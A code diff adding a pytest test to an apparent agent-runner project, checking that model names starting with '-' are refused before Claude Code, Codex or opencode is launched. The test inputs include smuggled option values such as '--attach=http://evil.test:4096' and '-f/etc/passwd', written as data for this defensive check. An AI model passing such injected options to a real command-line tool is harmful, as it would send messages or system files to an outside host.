@@ -10,7 +10,11 @@ from pathlib import Path
 
 import pytest
 
+from loop_ls.engine.core.ports import Failure
+from loop_ls.engine.runners.resolve import runner_for
+from loop_ls.engine.runners.runner import Assignment
 from loop_ls.engine.sandbox.sandbox import NoSandbox, find_sandbox
+from loop_ls.testing.models import ScriptedModels
 from tests.engine.providers.support.recording_provider import RecordingProvider
 from tests.engine.runners.support import agents as support
 from tests.real_clis.agents import RealAgent, agents
@@ -49,3 +53,17 @@ async def test_the_words_are_those_that_the_real_program_took(
         end = await workplace.work(caller)
         assert end["kind"] == "completed", end
         assert workplace.words == recorded(speaks, caller)["words"]
+
+
+@pytest.mark.parametrize("model", ["--attach=http://evil.test:4096", "--share", "-f/etc/passwd", "-"])
+@pytest.mark.parametrize("speaks", ["claude-code", "codex", "opencode"])
+async def test_a_model_that_the_program_could_take_for_an_option_starts_nobody(
+    tmp_path: Path, speaks: str, model: str
+) -> None:
+    """Nobody was asked about that option: opencode would send the message elsewhere, or a file with it."""
+    log = tmp_path / "log"
+    own = {"kind": "agent-cli", "cli": [sys.executable, str(FAKE), speaks, str(log), "fine"], "speaks": speaks}
+    runner = runner_for(speaks, {speaks: own}, ScriptedModels())
+    with pytest.raises(Failure, match="begins with `-`"):
+        await runner.run(Assignment("Do it.", folder=str(tmp_path), model=model))
+    assert not log.exists()
